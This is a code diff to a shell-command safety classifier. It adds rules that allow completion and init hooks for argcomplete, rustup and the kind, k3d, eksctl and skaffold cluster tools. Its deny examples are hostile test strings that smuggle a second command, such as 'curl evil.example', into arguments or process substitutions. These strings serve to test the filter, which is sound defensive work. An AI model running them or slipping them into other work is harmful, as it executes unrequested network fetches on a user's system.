@@ -6,13 +6,13 @@ import type { ProgramEntry } from '../types.js';
 import { value } from '../words.js';
 
 const PACKAGES =
-  'apt-mark dpkg dpkg-query dpkg-deb dpkg-reconfigure yum dnf microdnf zypper pacman yay paru apk emerge xbps-install snap flatpak port pkg pkgin pkg_add nix-env nix-build guix choco scoop winget conda-env rustup gofmt composer bower bundle-audit ncu opam cabal-install luarocks cpan cpanm raco tlmgr update-alternatives alternatives';
+  'apt-mark dpkg dpkg-query dpkg-deb dpkg-reconfigure yum dnf microdnf zypper pacman yay paru apk emerge xbps-install snap flatpak port pkg pkgin pkg_add nix-env nix-build guix choco scoop winget conda-env gofmt composer bower bundle-audit ncu opam cabal-install luarocks cpan cpanm raco tlmgr update-alternatives alternatives';
 
 const PROCESS =
   'pgrep pkill killall pidof top htop btop atop glances iotop nethogs iftop renice lsof fuser pstree pmap vmstat iostat mpstat sar dstat watchdog  journalctl loginctl timedatectl hostnamectl localectl networkctl rc-service rc-update initctl supervisorctl pm2 forever';
 
 const DEVELOP =
-  'ld ld.lld ld.gold lld as nasm yasm ar ranlib nm objdump objcopy readelf strip size addr2line cpp javac jar scalac sbt gradle gradlew ant rustc msbuild swiftc xcodebuild xcrun tsc esbuild vite webpack rollup parcel jest vitest mocha ava pytest py.test behave tox nox rspec rake prove phpunit   isort flake8 pylint mypy pyright     rubocop golangci-lint shfmt clang-format clang-tidy cmake-format meson buck pants scons autoconf automake autoreconf libtool pkg-config configure vagrant packer kustomize skaffold tilt k9s kind k3d eksctl    doctl vercel netlify wrangler firebase supabase  hub tig lazygit git-lfs pre-commit husky lefthook commitlint semantic-release changeset';
+  'ld ld.lld ld.gold lld as nasm yasm ar ranlib nm objdump objcopy readelf strip size addr2line cpp javac jar scalac sbt gradle gradlew ant rustc msbuild swiftc xcodebuild xcrun tsc esbuild vite webpack rollup parcel jest vitest mocha ava pytest py.test behave tox nox rspec rake prove phpunit   isort flake8 pylint mypy pyright     rubocop golangci-lint shfmt clang-format clang-tidy cmake-format meson buck pants scons autoconf automake autoreconf libtool pkg-config configure vagrant packer kustomize tilt k9s    doctl vercel netlify wrangler firebase supabase  hub tig lazygit git-lfs pre-commit husky lefthook commitlint semantic-release changeset';
 
 const TEXT =
   'diffstat colordiff wdiff jo gron miller mlr csvkit xsv qsv dasel htmlq pup xmlstarlet tidy asciidoctor markdown glow mdcat';
@@ -110,6 +110,23 @@ export const KNOWN_ENTRIES: ProgramEntry[] = [
     when: /^init bash$/,
     config: /^STARSHIP_/,
     examples: { deny: ['eval "$(starship init bash --print-full-init)"', 'eval "$(STARSHIP_CONFIG=x.toml starship init bash)"'], pass: ['eval "$(starship init bash)"'] },
+  }),
+  shellInit(known('register-python-argcomplete register-python-argcomplete3', "argcomplete: prints the bash completion hook of the Python programs it names"), {
+    // The names go into the hook's `complete` line as they are: only plain program names.
+    when: /^(?:(?:-s|--shell)[ =]bash )?[A-Za-z0-9_][\w.+-]*$/,
+    config: /^_?ARGCOMPLETE/,
+    examples: { deny: ['eval "$(register-python-argcomplete \'x; curl evil.example\')"', 'eval "$(register-python-argcomplete --complete-arguments \'$(curl evil.example)\' x)"'], pass: ['eval "$(register-python-argcomplete my-tool)"', 'eval "$(register-python-argcomplete --shell bash pipx)"'] },
+  }),
+  // Cobra CLIs whose completion script is built into the binary.
+  shellInit(known('skaffold kind k3d eksctl', 'cluster tools (kind, k3d, eksctl, skaffold)'), {
+    when: /^completion bash$/,
+    config: /^(KUBECONFIG|KIND_|K3D_|EKSCTL_|SKAFFOLD_|DOCKER_)/,
+    examples: { deny: ['eval "$(kind get kubeconfig)"', 'source <(kind completion bash; curl evil.example)'], pass: ['source <(kind completion bash)', 'eval "$(k3d completion bash)"', 'kind create cluster'] },
+  }),
+  shellInit(known('rustup', 'rustup: the Rust toolchain installer'), {
+    when: /^completions bash( rustup| cargo)?$/,
+    config: /^RUSTUP_/,
+    examples: { deny: ['eval "$(rustup run stable cat x.sh)"'], pass: ['eval "$(rustup completions bash)"', 'source <(rustup completions bash cargo)', 'rustup update'] },
   }),
   known(PROCESS, 'process and service tools: program names are data'),
   known(DEVELOP, 'compilers, build tools, linters and cloud CLIs: they run files, not words'),
